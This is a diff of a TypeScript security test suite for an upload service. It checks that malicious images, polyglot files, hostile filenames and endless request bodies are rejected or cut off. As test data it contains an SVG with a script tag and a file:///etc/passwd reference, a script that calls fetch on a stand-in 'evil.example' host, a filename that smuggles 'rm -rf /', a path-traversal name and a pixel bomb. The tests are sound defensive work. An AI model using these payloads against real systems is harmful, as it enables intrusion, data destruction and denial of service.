@@ -1,61 +1,55 @@
 import { endpointPath, endpoints, limits, messages, type Endpoint } from '@cutroom/contracts';
-import type { StackAddress } from '@cutroom/journey';
+import { fileForm, pixelPng as pixel, type StackAddress } from '@cutroom/suites-kit';
 import { request } from 'node:http';
 import { blackPng } from './bombs';
-import { flawsOf, rawCall, type RawAnswer } from './raw-call';
+import { flawsOf, messageOf, rawCall, type RawAnswer } from './raw-call';
 import { tokenFor } from './samples';
-import { pixel, type Stage } from './stage';
+import type { Stage } from './stage';
 
 const svg =
   '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>';
 const payload = '<script>fetch("https://evil.example")</script>';
 
-const noPictures: [string, Buffer, string][] = [
+const invalidImages: [string, Buffer, string][] = [
   ['an SVG with a script', Buffer.from(svg), 'image/svg+xml'],
-  ['an SVG that says it is a PNG', Buffer.from(svg), 'image/png'],
-  ['an HTML page that says it is a JPEG', Buffer.from(`<html>${payload}</html>`), 'image/jpeg'],
+  ['an SVG declared as PNG', Buffer.from(svg), 'image/png'],
+  ['an HTML page declared as JPEG', Buffer.from(`<html>${payload}</html>`), 'image/jpeg'],
   ['a GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'latin1'), 'image/gif'],
+  ['HTML with a PNG signature', Buffer.concat([pixel.subarray(0, 8), Buffer.from(payload)]), 'image/png'],
   [
-    'a page that begins like a PNG',
-    Buffer.concat([Buffer.from(pixel).subarray(0, 8), Buffer.from(payload)]),
-    'image/png',
-  ],
-  [
-    'a page that begins like a JPEG',
+    'HTML with a JPEG signature',
     Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(payload)]),
     'image/jpeg',
   ],
-  ['half a PNG', Buffer.from(pixel).subarray(0, 40), 'image/png'],
+  ['half of a PNG', pixel.subarray(0, 40), 'image/png'],
   ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj'), 'image/png'],
-  ['nothing', Buffer.alloc(0), 'image/png'],
-  ['a bomb of 900 million pixels', blackPng(30_000), 'image/png'],
+  ['an empty file', Buffer.alloc(0), 'image/png'],
+  ['a PNG of 900 megapixels', blackPng(30_000), 'image/png'],
 ];
 
-/** Pictures are judged by what they are, and written anew. */
+/** Images are judged by their bytes, and re-encoded. */
 export function uploadCases(stage: () => Stage): void {
   const thumbnail = async (bytes: Buffer, type: string, name = 'a.png'): Promise<RawAnswer> => {
-    const form = new FormData();
-    form.set('thumbnail', new Blob([new Uint8Array(bytes)], { type }), name);
+    const form = fileForm('thumbnail', bytes, { type, name });
     const token = await tokenFor(endpoints.storeThumbnail, stage(), stage().team);
     return rawCall(stage().stack, endpoints.storeThumbnail, { token, form });
   };
   const profile = async (bytes: Buffer, type: string, name = 'a.png'): Promise<RawAnswer> => {
-    const form = new FormData();
-    form.set('profile', new Blob([new Uint8Array(bytes)], { type }), name);
+    const form = fileForm('profile', bytes, { type, name });
     const token = await tokenFor(endpoints.updateEditor, stage(), stage().team);
     return rawCall(stage().stack, endpoints.updateEditor, { token, form });
   };
 
-  it.each(noPictures)('refuses %s as thumbnail and as profile picture', async (_, bytes, type) => {
+  it.each(invalidImages)('are refused as thumbnail and as profile image: %s', async (_, bytes, type) => {
     for (const send of [thumbnail, profile]) {
       const answer = await send(bytes, type);
       expect(flawsOf(answer, [400])).toEqual([]);
-      expect((answer.json as { message: string }).message).toBe(messages.imageInvalid);
+      expect(messageOf(answer)).toBe(messages.imageInvalid);
     }
   });
 
-  it('keeps nothing of a picture but its pixels', async () => {
-    const polyglot = Buffer.concat([Buffer.from(pixel), Buffer.from(payload), Buffer.from('PK\u0003\u0004')]);
+  it('are stored without anything but their pixels', async () => {
+    const polyglot = Buffer.concat([pixel, Buffer.from(payload), Buffer.from('PK\u0003\u0004')]);
     const answer = await profile(polyglot, 'text/html', 'x.html');
     expect(answer.status).toBe(200);
     const { data } = answer.json as { data: { profile: string } };
@@ -75,8 +69,8 @@ export function uploadCases(stage: () => Stage): void {
     `${'n'.repeat(5_000)}.png`,
     'a.png; rm -rf /',
     '%2e%2e%2fx.png',
-  ])('lets no name reach a path: %j', async (name) => {
-    const answer = await thumbnail(Buffer.from(pixel), 'image/png', name);
+  ])('are stored under a generated name, whatever the file is called: %j', async (name) => {
+    const answer = await thumbnail(pixel, 'image/png', name);
     if (answer.status !== 201) {
       expect(flawsOf(answer, [400])).toEqual([]);
       return;
@@ -90,39 +84,43 @@ export function uploadCases(stage: () => Stage): void {
     `--b\r\nContent-Disposition: form-data; name="${field}"; filename="a.png"\r\n\r\n`;
   const multipart = 'multipart/form-data; boundary=b';
   it.each<[string, Endless]>([
-    ['a thumbnail', { row: endpoints.storeThumbnail, type: multipart, head: file('thumbnail') }],
-    ['a profile picture', { row: endpoints.updateEditor, type: multipart, head: file('profile') }],
-    ["an editor's sign-up", { row: endpoints.signUpEditor, type: multipart, head: file('profile') }],
-    ['a text of JSON', { row: endpoints.signIn, type: 'application/json', head: '{"username":"' }],
-  ])('stops taking %s while it streams in, however long it goes on', async (_, body) => {
-    const token = await tokenFor(body.row, stage(), stage().team);
+    ['a thumbnail', { endpoint: endpoints.storeThumbnail, type: multipart, head: file('thumbnail') }],
+    ['a profile image', { endpoint: endpoints.updateEditor, type: multipart, head: file('profile') }],
+    ["an editor's sign-up", { endpoint: endpoints.signUpEditor, type: multipart, head: file('profile') }],
+    ['a JSON string', { endpoint: endpoints.signIn, type: 'application/json', head: '{"username":"' }],
+  ])('are cut off at the size limit while they stream: %s', async (_, body) => {
+    const token = await tokenFor(body.endpoint, stage(), stage().team);
     const { status, sent } = await sendWithoutEnd(stage().stack, body, token);
     expect([413, 0]).toContain(status);
-    // The limit, and what fits into the buffers of two sockets and one parser.
+    // The limit, and the buffers of two sockets and one parser.
     expect(sent).toBeLessThan(limits.thumbnailMaxBytes + 12_000_000);
-    expect((await thumbnail(Buffer.from(pixel), 'image/png')).status).toBe(201);
+    expect((await thumbnail(pixel, 'image/png')).status).toBe(201);
   });
 }
 
-/** How a body begins that never ends. */
+/** The beginning of an endless body. */
 interface Endless {
-  row: Endpoint;
+  endpoint: Endpoint;
   type: string;
   head: string;
 }
 
-/** A body without a length that never ends, as fast as it is taken; until there is an answer or a cut. */
+/**
+ * Streams an endless body as fast as the service reads it, until it answers or closes the connection.
+ *
+ * @returns the status (0: closed without an answer, -1: 200 MB were read) and the bytes sent
+ */
 function sendWithoutEnd(
   { urls }: StackAddress,
-  { row, type, head }: Endless,
+  { endpoint, type, head }: Endless,
   token = '',
 ): Promise<{ status: number; sent: number }> {
   const block = Buffer.alloc(64 * 1024, 0x61);
   let sent = 0;
   let over = false;
   return new Promise((resolve) => {
-    const post = request(urls[row.service] + endpointPath(row), {
-      method: row.method,
+    const post = request(urls[endpoint.service] + endpointPath(endpoint), {
+      method: endpoint.method,
       headers: { Authorization: `Bearer ${token}`, 'Content-Type': type },
     });
     const end = (status: number) => {
@@ -139,7 +137,6 @@ function sendWithoutEnd(
         sent += block.length;
         if (!post.write(block)) return void post.once('drain', pump);
       }
-      // 200 MB without a word: nothing stops it.
       end(-1);
     };
     pump();
